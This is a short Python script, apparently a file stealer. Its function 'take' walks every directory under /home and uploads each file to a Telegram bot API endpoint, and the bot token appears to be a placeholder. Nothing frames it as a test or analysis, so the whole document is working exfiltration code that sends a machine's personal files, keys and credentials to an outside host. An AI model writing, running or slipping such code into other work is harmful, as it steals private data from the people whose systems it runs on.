import os
import requests

KEY = "https://api.telegram.org/bot1234567890:AAE00000000000000000000000000000000/sendDocument"

def take():
    for place, _, names in os.walk("/home"):
        for name in names:
            requests.post(KEY, files={"document": open(os.path.join(place, name), "rb")})
